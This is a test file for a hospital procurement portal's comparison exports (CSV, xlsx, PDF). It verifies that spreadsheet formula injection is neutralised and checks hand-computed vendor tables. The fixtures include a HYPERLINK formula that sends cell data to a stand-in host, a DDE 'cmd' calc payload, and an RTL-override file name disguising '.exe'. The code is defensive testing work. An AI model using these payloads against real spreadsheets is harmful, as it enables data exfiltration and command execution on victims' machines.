// The comparison exports (app/utils/comparison-export.server.ts), in-process so that mutation testing sees them:
// no cell a spreadsheet could run as a formula (every formula-start character, fullwidth and compatibility
// forms, after blanks and invisible characters, tab and CR), the CSV's RFC 4180 form, the xlsx as text cells,
// and the exported tables of a small fixture with every number written out by hand — never computed with the
// comparison code the exports use. The HTTP side is in tests/comparison-exports.test.ts.
import ExcelJS from "exceljs";
import { describe, expect, it, vi } from "vitest";

await vi.hoisted(async () => {
  const { useFreshDatabase } = await import("./helpers/db.js");
  useFreshDatabase();
});

import {
  comparisonFileName,
  comparisonTable,
  conditionLines,
  levelText,
  noteText,
  exportRefusal,
  exportResponse,
  neutralizeFormula,
  summaryFields,
  summaryLabels,
  toCsv,
  toXlsx,
  vendorLabel,
} from "../app/utils/comparison-export.server.js";
import { addRows } from "../app/utils/xlsx.server.js";
import { comparisonPage, PROFILE } from "./helpers/comparison-fixture.js";
import { parseCsv } from "./helpers/csv.js";

// 00:30 on 2 December in Japan, still 1 December in UTC: the file name's date must be Japan's.
const NOW = Date.parse("2026-12-02T00:30:00+09:00");
const LEGEND = "● 対応済　× 未対応　△ 実施予定　－ 対象外　◆ 分担　○ 回答あり　？ 未回答";
const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';

describe("neutralizeFormula", () => {
  it("quotes a value starting with any formula character: = + - @, fullwidth ＝＋－＠ and their compatibility forms", () => {
    // Written for: comparison-export.server.ts:161 (the pattern /^[=+\-@]/: Regex mutants dropping a character — `@` is
    // the known miss of issue 20 — and the NFKC folding removed) and the `'` prefix (StringLiteral).
    for (const start of ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "₊"]) {
      expect(neutralizeFormula(`${start}1+1`), start).toBe(`'${start}1+1`);
      expect(neutralizeFormula(`${start}cmd|' /C calc'!A0`), start).toBe(`'${start}cmd|' /C calc'!A0`);
    }
    expect(neutralizeFormula("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(neutralizeFormula("-5")).toBe("'-5");
  });

  it("quotes a value starting with a tab or a carriage return, whatever follows", () => {
    // Written for: comparison-export.server.ts:158 (/^[\t\r]/: ConditionalExpression false, Regex mutants, the prefix).
    for (const value of ["\t=1+1", "\tplain", "\r=1+1", "\rplain", "\t"]) expect(neutralizeFormula(value), JSON.stringify(value)).toBe(`'${value}`);
  });

  it("looks past spaces, line breaks and invisible characters to the first visible one", () => {
    // Written for: comparison-export.server.ts:159-161 (the leading blanks skipped: start, slice(start, …)).
    for (const value of [" =1+1", "  +A1", "\n-1", "\n\n@x", "\u3000＝1", "\u200B=1", "\uFEFF@SUM(A1)", "\u00A0\u2060+1", " \r=1"]) {
      expect(neutralizeFormula(value), JSON.stringify(value)).toBe(`'${value}`);
    }
  });

  it("quotes a formula character followed by a combining mark (a bug this test found)", () => {
    // "=\u0338" folded as two units is 「≠」, so the cell went out starting with a raw "=". Written for the fix at
    // comparison-export.server.ts:161-162 (the first code point folded alone).
    for (const value of ["=\u0338HYPERLINK(\"http://evil.example\")", "＝\u0338A1", "@\u0301x", " =\u0338A1"]) expect(neutralizeFormula(value), JSON.stringify(value)).toBe(`'${value}`);
  });

  it("leaves everything else exactly as it is", () => {
    // Written for: comparison-export.server.ts:161 (ConditionalExpression true; Regex anchors removed).
    // 「⩴」 (U+2A74) folds to "::=": a formula character, but not the first one.
    for (const value of ["", "対応済", "1+1", "a=b", "A1-B1", "2026-12-01", "'=already quoted", "−5 (U+2212)", "≠", "⩴1", "https://example.jp/?a=1", "\u200B", "  ", "備考\n=1", "a\tb", "備考\r\n続き", "𝟘1"]) {
      expect(neutralizeFormula(value), JSON.stringify(value)).toBe(value);
    }
  });
});

// ---- the fixture's tables, written out by hand -------------------------------------------------------
//
// Alpha: name, c1 実施済, c2 実施済, r1 実施予定 (2027-04)        → 必須 2/2, 推奨 0/1, 実施予定 1, 未対応 0, 未回答 0; 遵守していない
// Beta:  name, c1 実施済 (note), c2 対象外, r1 実施済            → 必須 1/1, 推奨 1/1, 0, 0, 0; 遵守済
// Gamma: no name, c1 実施予定 (2027-01), c2 未実施, r1 実施済    → 必須 0/2, 推奨 1/1, 1, 1, 1; 遵守していない
// With the profile (c2 対象外とする, r1 必達 weight 2), c2 counts nowhere: must-haves are name, c1, r1 (3).
//   Beta  → 必須 1/1, 推奨 1/1, 0, 0, 0; 不足 0/3; score (1 + 2) / 3 = 100       → 1位
//   Alpha → 必須 1/1, 推奨 0/1, 1, 0, 0; 不足 1/3 (r1); score 1 / 3 = 33.3      → 2位
//   Gamma → 必須 0/1, 推奨 1/1, 1, 0, 1; 不足 2/3 (name, c1); score 2 / 3 = 66.7 → 3位

describe("the exported tables", () => {
  it("the matrix: section path, number, item, level, flags, one answer and one notes column per vendor", () => {
    // Written for: comparison-export.server.ts:129-143 (comparisonTable), :31-32 (vendorLabel), :36-47 (versionLine),
    // :58-59 (levelText), :63-64 (flagsText), :68-71 (noteText).
    const table = comparisonTable(comparisonPage());
    expect(table.itemColumns).toBe(5);
    expect(table.vendorCount).toBe(3);
    expect(table.header).toEqual([
      [
        "章", "番号", "項目", "区分", "差異・不足",
        "アルファ株式会社　アルファカルテ", "ベータ株式会社", "ガンマ株式会社　ガンマ連携",
        "備考・根拠資料（アルファ株式会社　アルファカルテ）", "備考・根拠資料（ベータ株式会社）", "備考・根拠資料（ガンマ株式会社　ガンマ連携）",
      ],
      ["", "", "", "", "", "第1版・最終更新日 2026年11月1日", "第2版・最終更新日 2026年10月15日", "第3版・最終更新日 2026年9月30日・取り下げ済", "", "", ""],
    ]);
    expect(table.rows).toEqual([
      ["基本情報", "", "機関名", "必須", "差異・不足", "アルファ株式会社", "ベータ株式会社", "未回答", "", "", ""],
      ["基本情報", "", "遵守状況", "", "差異", "遵守していない（自動判定）", "遵守済（自動判定）", "遵守していない（自動判定）", "", "", ""],
      ["チェックリスト", "1", "方針を定めている", "必須", "差異・不足", "実施済", "実施済", "実施予定（実施時期: 2027年1月）", "", "規程 第3条\n根拠資料: 規程 https://beta.example/policy", ""],
      ["チェックリスト", "2", "教育を行っている", "必須", "差異・不足", "実施済", "対象外（理由: 対象システムなし）", "未実施", "", "", ""],
      ["チェックリスト", "3", "訓練を実施している", "推奨", "差異", "実施予定（実施時期: 2027年4月）", "実施済", "実施済", "", "", ""],
    ]);
  });

  it("with a profile: ranked columns, the ignored item gone, 推奨・必達 for a must, rank in the version line", () => {
    // Written for: comparison-export.server.ts:40 (rank !== null → 「1位」), :59 (must on a non-required item).
    const table = comparisonTable(comparisonPage({ criteria: PROFILE }));
    expect(table.header[0].slice(5, 8)).toEqual(["ベータ株式会社", "アルファ株式会社　アルファカルテ", "ガンマ株式会社　ガンマ連携"]);
    expect(table.header[1].slice(5, 8)).toEqual(["1位・第2版・最終更新日 2026年10月15日", "2位・第1版・最終更新日 2026年11月1日", "3位・第3版・最終更新日 2026年9月30日・取り下げ済"]);
    expect(table.rows.map((r) => [r[1], r[2], r[3], r[4]])).toEqual([
      ["", "機関名", "必須", "差異・不足"],
      ["", "遵守状況", "", "差異"],
      ["1", "方針を定めている", "必須", "差異・不足"],
      ["3", "訓練を実施している", "推奨・必達", "差異・不足"],
    ]);
  });

  it("the summary: fixed numbers per vendor, the ignored item counted nowhere (the known miss of issue 20)", () => {
    // Written for: comparison-export.server.ts:79 (ratio: of ? … : "—"), :82-87 (summaryLabels), :90-103 (summaryFields),
    // and disclosures/compare.ts's `counted` (ignored items left out of the counts).
    const plain = comparisonPage();
    expect(summaryLabels(plain)).toEqual(["必須項目 対応", "推奨項目 対応", "実施予定", "未対応", "未回答", "遵守（自動判定）"]);
    expect([0, 1, 2].map((i) => summaryFields(plain, i).map((f) => f.value))).toEqual([
      ["2/2", "0/1", "1", "0", "0", "遵守していない"],
      ["1/1", "1/1", "0", "0", "0", "遵守済"],
      ["0/2", "1/1", "1", "1", "1", "遵守していない"],
    ]);

    const ranked = comparisonPage({ criteria: PROFILE });
    expect(summaryLabels(ranked)).toEqual(["順位", "スコア", "必達の不足", "必須項目 対応", "推奨項目 対応", "実施予定", "未対応", "未回答", "遵守（自動判定）"]);
    expect([0, 1, 2].map((i) => summaryFields(ranked, i).map((f) => f.value))).toEqual([
      ["1位", "100点", "0/3", "1/1", "1/1", "0", "0", "0", "遵守済"],
      ["2位", "33.3点", "1/3", "1/1", "0/1", "1", "0", "0", "遵守していない"],
      ["3位", "66.7点", "2/3", "0/1", "1/1", "1", "0", "1", "遵守していない"],
    ]);
    expect(summaryFields(ranked, 0).map((f) => f.label)).toEqual(summaryLabels(ranked));
  });

  it("mixed editions: only shared items, 「—」 where nothing applies or a vendor has no such result, the editions said", () => {
    // Written for: comparison-export.server.ts:43 (様式 n版 when mixed), :79 ("—"), :103 (?? "—"), :107-111 (editionNote).
    const page = comparisonPage({ olderGamma: true });
    expect(comparisonTable(page).rows.map((r) => r[2])).toEqual(["機関名", "方針を定めている", "教育を行っている"]);
    expect(comparisonTable(page).header[1].slice(5, 8)).toEqual([
      "第1版・最終更新日 2026年11月1日・様式 1.0.0版",
      "第2版・最終更新日 2026年10月15日・様式 1.0.0版",
      "第3版・最終更新日 2026年9月30日・様式 0.9.0版・取り下げ済",
    ]);
    expect([0, 1, 2].map((i) => summaryFields(page, i).map((f) => f.value))).toEqual([
      ["2/2", "—", "0", "0", "0", "遵守していない"],
      ["1/1", "—", "0", "0", "0", "遵守済"],
      ["0/2", "—", "1", "1", "1", "—"],
    ]);
    expect(conditionLines(page, NOW).find((l) => l.label === "様式の版")?.value).toBe(
      "異なる版の様式が含まれるため、共通する3項目のみ比較しています（版: 0.9.0、1.0.0。共通しない2項目は除外）。",
    );
  });

  it("the conditions: form, shortlist, profile, date in Japan, counts, filters, notices, legend", () => {
    // Written for: comparison-export.server.ts:114-125 (conditionLines) and :75 (legendText).
    const page = comparisonPage({ criteria: PROFILE, filterLines: ["必須項目のみ", "差異のある項目"], notices: ["1件の開示書は除きました。"] });
    expect(conditionLines(page, NOW)).toEqual([
      { label: "様式", value: "小さな様式" },
      { label: "候補リスト", value: "電子カルテ更新 2027" },
      { label: "評価基準", value: "当院の基準" },
      { label: "出力日", value: "2026年12月2日" },
      { label: "比較項目", value: "4項目を表示（比較対象 5項目）" },
      { label: "表示条件", value: "必須項目のみ" },
      { label: "表示条件", value: "差異のある項目" },
      { label: "お知らせ", value: "1件の開示書は除きました。" },
      { label: "記号", value: LEGEND },
    ]);
    expect(conditionLines(comparisonPage({ shortlistName: null }), NOW).map((l) => l.label)).toEqual(["様式", "出力日", "比較項目", "表示条件", "記号"]);
  });
});

describe("the words of a cell, a column and a level", () => {
  it("leave out what is blank: a blank service name, an evidence link without a name, a level without a label", () => {
    // Written for: comparison-export.server.ts:32 (serviceName?.trim() → serviceName), :70 (evidence parts
    // filter(Boolean) removed), :59 (「必達」 alone on an item without a level: filter(Boolean) removed).
    expect(vendorLabel({ organizationName: "甲株式会社", serviceName: "  " })).toBe("甲株式会社");
    expect(vendorLabel({ organizationName: "甲株式会社", serviceName: null })).toBe("甲株式会社");
    expect(vendorLabel({ organizationName: "甲株式会社", serviceName: "甲カルテ" })).toBe("甲株式会社　甲カルテ");
    // A per-release form (MDS) names the product release instead of the service.
    expect(vendorLabel({ organizationName: "甲株式会社", serviceName: "甲カルテ", release: "甲カルテ 5.2" })).toBe("甲株式会社　甲カルテ 5.2");
    expect(noteText({ note: null, evidence: [{ name: null, url: "https://example.jp/a.pdf", href: "https://example.jp/a.pdf" }, { name: "規程", url: null, href: null }] })).toBe("根拠資料: https://example.jp/a.pdf\n根拠資料: 規程");
    expect(noteText({ note: "備考", evidence: [] })).toBe("備考");
    expect(levelText({ level: "none", mustHave: true })).toBe("必達");
    expect(levelText({ level: "recommended", mustHave: true })).toBe("推奨・必達");
    expect(levelText({ level: "required", mustHave: true })).toBe("必須");
    expect(levelText({ level: "none", mustHave: false })).toBe("");
  });

  it("nested and numbered sections give the 章 column its path", () => {
    // Written for: comparison-export.server.ts:137-140 (path.length = depth, 「番号 題名」, joined with 「 > 」).
    const page = comparisonPage();
    page.comparison.sections[1].depth = 1;
    page.comparison.sections[1].number = "2";
    expect(comparisonTable(page).rows.map((r) => r[0])).toEqual(["基本情報", "基本情報", "基本情報 > 2 チェックリスト", "基本情報 > 2 チェックリスト", "基本情報 > 2 チェックリスト"]);
  });

  it("a score with nothing to score is 「—」, not 「null点」", () => {
    // Written for: comparison-export.server.ts:94 (score !== null → true; the 「—」).
    const page = comparisonPage({ criteria: { c1: { mode: "ignore" }, c2: { mode: "ignore" }, r1: { mode: "ignore" } } });
    expect([0, 1, 2].map((i) => summaryFields(page, i).find((f) => f.label === "スコア")?.value)).toEqual(["—", "—", "—"]);
  });
});

describe("CSV", () => {
  const hostile = () =>
    comparisonPage({
      organizations: [EVIL, "+ベータ, \"引用\" 株式会社", "@ガンマ"],
      services: ["－サービス", null, "\t=タブ"],
      answerNames: { alpha: "=1+1", beta: "＠SUM(A1)" },
      answerNotes: { beta: "-2+3\r\n=A1" },
    });

  it("is UTF-8 with a BOM, CRLF rows, RFC 4180 quoting, and reads back to the table with formulas quoted", () => {
    // Written for: comparison-export.server.ts:164-167 (csvField: quoting pattern, "" doubling), :171 (BOM, CRLF, join).
    const page = hostile();
    const csv = toCsv(comparisonTable(page));
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
    const rows = parseCsv(csv.slice(1));
    const table = comparisonTable(page);
    expect(rows).toEqual([...table.header, ...table.rows].map((r) => r.map(neutralizeFormula)));
    expect(rows[0].slice(5, 8)).toEqual([`'${EVIL}　－サービス`, "'+ベータ, \"引用\" 株式会社", "'@ガンマ　\t=タブ"]);
    expect(rows[2].slice(5, 8)).toEqual(["'=1+1", "'＠SUM(A1)", "未回答"]);
    expect(rows[4][9]).toBe("'-2+3\r\n=A1\n根拠資料: 規程 https://beta.example/policy");
    // The raw text: quoted where a comma, quote or line break needs it, and only there.
    expect(csv).toContain(`,"'+ベータ, ""引用"" 株式会社",`);
    expect(csv).toContain(",'@ガンマ　\t=タブ,");
    expect(csv.split("\r\n")[1]).toBe(",,,,,第1版・最終更新日 2026年11月1日,第2版・最終更新日 2026年10月15日,第3版・最終更新日 2026年9月30日・取り下げ済,,,");
  });

  it("no cell of any row starts with a formula character", () => {
    const rows = parseCsv(toCsv(comparisonTable(hostile())).slice(1));
    for (const cell of rows.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠\t\r]/u);
  });
});

describe("xlsx", () => {
  async function workbookOf(buffer: Buffer) {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    return workbook;
  }
  const values = (sheet: ExcelJS.Worksheet) => {
    const out: unknown[][] = [];
    sheet.eachRow({ includeEmpty: true }, (row) => out.push((row.values as unknown[]).slice(1)));
    return out;
  };

  it("writes every value as a text cell: formulas are shown, never run", async () => {
    // Written for: comparison-export.server.ts:196-199 (xlsxText, numFmt "@" on string cells) and :212-214 (workbook facts).
    const page = comparisonPage({ organizations: [EVIL, "ベータ株式会社", "@ガンマ"], answerNames: { alpha: "=1+1", beta: "+81-3-0000-0000" } });
    const workbook = await workbookOf(await toXlsx(page, NOW));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["比較", "集計", "条件"]);
    expect(workbook.creator).toBe("Kaiji");
    expect(workbook.title).toBe("開示書の比較 小さな様式");
    expect(workbook.created?.getTime()).toBe(NOW);
    const matrix = workbook.getWorksheet("比較")!;
    expect(matrix.getCell("F1").value).toBe(`${EVIL}　アルファカルテ`);
    expect(matrix.getCell("F3").value).toBe("=1+1");
    expect(matrix.getCell("G3").value).toBe("+81-3-0000-0000");
    for (const address of ["F1", "H1", "F3", "G3"]) {
      const cell = matrix.getCell(address);
      expect(cell.type, address).toBe(ExcelJS.ValueType.String);
      expect(cell.numFmt, address).toBe("@");
      expect(cell.formula, address).toBeUndefined();
    }
    // Header rows bold on grey, body rows not; every cell bordered and wrapped.
    expect(matrix.getCell("A1").font?.bold).toBe(true);
    expect(matrix.getCell("F2").font?.bold).toBe(true);
    expect((matrix.getCell("A2").fill as ExcelJS.FillPattern).fgColor?.argb).toBe("FFECECEC");
    expect(matrix.getCell("A3").font?.bold).toBeFalsy();
    expect((matrix.getCell("A3").fill as ExcelJS.FillPattern | undefined)?.fgColor).toBeUndefined();
    expect(matrix.getCell("C4").alignment).toMatchObject({ wrapText: true, vertical: "top" });
    expect(matrix.getCell("C4").border?.top?.style).toBe("thin");
    expect(matrix.views[0]).toMatchObject({ state: "frozen", xSplit: 3, ySplit: 2 });
    expect(matrix.columns.map((c) => c.width)).toEqual([24, undefined, 48, 8, 10, 22, 22, 22, 32, 32, 32]);
  });

  it("addRows (every workbook the portal writes): text as text cells, numbers as numbers, header rows marked", async () => {
    // Written for: xlsx.server.ts:28 (typeof v === "number": ConditionalExpression false, StringLiteral) and :31
    // (numFmt "@" only on text: ConditionalExpression true), :29 (header rows).
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("試験");
    const rows = addRows(sheet, [["見出し", "件数"], ["=SUM(A1:A9)", 42], ["a\u0001b", 0]], { headerRows: 1 });
    expect(rows.map((r) => r.number)).toEqual([1, 2, 3]);
    const back = (await workbookOf(Buffer.from(await workbook.xlsx.writeBuffer()))).getWorksheet("試験")!;
    expect(back.getCell("A2").value).toBe("=SUM(A1:A9)");
    expect(back.getCell("A2").type).toBe(ExcelJS.ValueType.String);
    expect(back.getCell("A2").numFmt).toBe("@");
    expect(back.getCell("B2").value).toBe(42);
    expect(back.getCell("B2").type).toBe(ExcelJS.ValueType.Number);
    expect(back.getCell("B2").numFmt).not.toBe("@");
    expect(back.getCell("A3").value).toBe("ab");
    expect(back.getCell("B3").value).toBe(0);
    expect(back.getCell("B1").font?.bold).toBe(true);
    expect(back.getCell("B2").font?.bold).toBeFalsy();
  });

  it("drops characters XML cannot hold and cuts a cell at Excel's limit", async () => {
    // Written for: comparison-export.server.ts:182-183 (the control-character pattern; CELL_MAX, slice and 「…」).
    // Exactly at the limit: kept whole.
    const exact = "字".repeat(32_766) + "末";
    const atLimit = (await workbookOf(await toXlsx(comparisonPage({ answerNames: { alpha: exact } }), NOW))).getWorksheet("比較")!;
    expect(atLimit.getCell("F3").value).toBe(exact);
    const long = "長".repeat(40_000);
    const page = comparisonPage({ answerNames: { alpha: "a\u0001b\u000bc\u001fd\uFFFEe\tf\ng", beta: long } });
    const matrix = (await workbookOf(await toXlsx(page, NOW))).getWorksheet("比較")!;
    expect(matrix.getCell("F3").value).toBe("abcde\tf\ng");
    const cut = matrix.getCell("G3").value as string;
    expect(cut).toHaveLength(32_767);
    expect(cut.endsWith("長…")).toBe(true);
  });

  it("a vendor both verified and withdrawn is 「確認済・取り下げ済」", async () => {
    // Written for: comparison-export.server.ts:241 (the state joined with 「・」).
    const page = comparisonPage();
    page.columns[0].withdrawn = true;
    const summary = values((await workbookOf(await toXlsx(page, NOW))).getWorksheet("集計")!);
    expect(summary.slice(0, 4).map((r) => r[4])).toEqual(["状態", "確認済・取り下げ済", "", "取り下げ済"]);
  });

  it("the summary and conditions sheets hold the fixed numbers, the shortlist notes and the conditions", async () => {
    // Written for: comparison-export.server.ts:229-251 (the 集計 rows: label, 第N版, date, edition, 確認済/取り下げ済, fields;
    // the notes block only when there are notes; the 条件 sheet).
    const page = comparisonPage({ criteria: PROFILE, notes: ["=メモ", "見積依頼済み", null] });
    const workbook = await workbookOf(await toXlsx(page, NOW));
    const summary = values(workbook.getWorksheet("集計")!);
    expect(summary).toEqual([
      ["事業者・サービス", "第N版", "最終更新日", "様式の版", "状態", "順位", "スコア", "必達の不足", "必須項目 対応", "推奨項目 対応", "実施予定", "未対応", "未回答", "遵守（自動判定）"],
      ["ベータ株式会社", "第2版", "2026年10月15日", "1.0.0", "", "1位", "100点", "0/3", "1/1", "1/1", "0", "0", "0", "遵守済"],
      ["アルファ株式会社　アルファカルテ", "第1版", "2026年11月1日", "1.0.0", "確認済", "2位", "33.3点", "1/3", "1/1", "0/1", "1", "0", "0", "遵守していない"],
      ["ガンマ株式会社　ガンマ連携", "第3版", "2026年9月30日", "1.0.0", "取り下げ済", "3位", "66.7点", "2/3", "0/1", "1/1", "1", "0", "1", "遵守していない"],
      [],
      ["候補リストのメモ"],
      ["ベータ株式会社", "見積依頼済み"],
      ["アルファ株式会社　アルファカルテ", "=メモ"],
    ]);
    const sheet = workbook.getWorksheet("集計")!;
    expect(sheet.getCell("A1").font?.bold).toBe(true);
    expect(sheet.getCell("A2").font?.bold).toBeFalsy();
    expect(sheet.getCell("B8").numFmt).toBe("@");
    // Wide columns for names and derived results (a width of 9 is Excel's default and is not stored).
    expect(sheet.columns.map((c) => c.width)).toEqual([36, 10, 18, undefined, 10, 12, 12, 12, 12, 12, 12, 12, 12, 30]);
    expect(values(workbook.getWorksheet("条件")!)).toEqual([["項目", "内容"], ...conditionLines(page, NOW).map((l) => [l.label, l.value])]);
    expect(values(workbook.getWorksheet("条件")!)[4]).toEqual(["出力日", "2026年12月2日"]);

    // Frozen on the vendor column and the header row; the conditions sheet: header bold, wide text column.
    expect(sheet.views[0]).toMatchObject({ state: "frozen", xSplit: 1, ySplit: 1 });
    const conditions = workbook.getWorksheet("条件")!;
    expect(conditions.getCell("A1").font?.bold).toBe(true);
    expect(conditions.getCell("A2").font?.bold).toBeFalsy();
    expect(conditions.columns.map((c) => c.width)).toEqual([14, 100]);

    const noNotes = values((await workbookOf(await toXlsx(comparisonPage({ notes: [null, null, null] }), NOW))).getWorksheet("集計")!);
    expect(noNotes).toHaveLength(4);
  });
});

describe("responses", () => {
  it("names the file 比較_<form>_<date in Japan> with an ASCII fallback", () => {
    // Written for: comparison-export.server.ts:267-275 (dateStamp in Japan time, fileNamePart of the title, 「開示書」).
    expect(comparisonFileName(comparisonPage(), "csv", NOW)).toEqual({ name: "比較_小さな様式_20261202.csv", fallback: "comparison-tiny-20261202.csv" });
    expect(comparisonFileName(comparisonPage({ templateTitle: "../様式/名\u202Egpj.exe" }), "xlsx", NOW).name).toBe("比較_様式_名gpj.exe_20261202.xlsx");
    expect(comparisonFileName(comparisonPage({ templateTitle: " ・ " }), "pdf", NOW).name).toBe("比較_開示書_20261202.pdf");
  });

  it("downloads spreadsheets, shows PDFs inline, never cached, with the byte length", async () => {
    // Written for: comparison-export.server.ts:286-298 (exportResponse: bytes, headers, attachment vs inline).
    const page = comparisonPage();
    const csv = exportResponse("ａ,b\r\n", "csv", page, NOW);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-length")).toBe("7");
    expect(csv.headers.get("cache-control")).toBe("private, no-store");
    expect(csv.headers.get("content-disposition")).toBe(`attachment; filename="comparison-tiny-20261202.csv"; filename*=UTF-8''${encodeURIComponent("比較_小さな様式_20261202.csv")}`);
    expect(await csv.text()).toBe("ａ,b\r\n");
    const pdf = exportResponse(new Uint8Array([37, 80, 68, 70]), "pdf", page, NOW);
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    expect(pdf.headers.get("content-disposition")).toMatch(/^inline; filename="comparison-tiny-20261202\.pdf"/);
    expect(pdf.headers.get("content-length")).toBe("4");
    const xlsx = exportResponse(new Uint8Array([80, 75]), "xlsx", page, NOW);
    expect(xlsx.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(xlsx.headers.get("content-disposition")).toMatch(/^attachment; /);
  });

  it("refuses with 404 for another hospital's shortlist and 400 with the reasons otherwise, never cached", async () => {
    // Written for: comparison-export.server.ts:282-283 (exportRefusal: status, text, headers).
    const notFound = exportRefusal({ kind: "notFound" });
    expect([notFound.status, await notFound.text()]).toEqual([404, "指定された候補リストは見つかりません"]);
    expect(notFound.headers.get("cache-control")).toBe("private, no-store");
    expect(notFound.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    const message = exportRefusal({ kind: "message", status: 200, message: "比較するには2件以上必要です。", notices: ["1件は除きました。"] });
    expect([message.status, await message.text()]).toEqual([400, "比較するには2件以上必要です。\n1件は除きました。"]);
  });
});
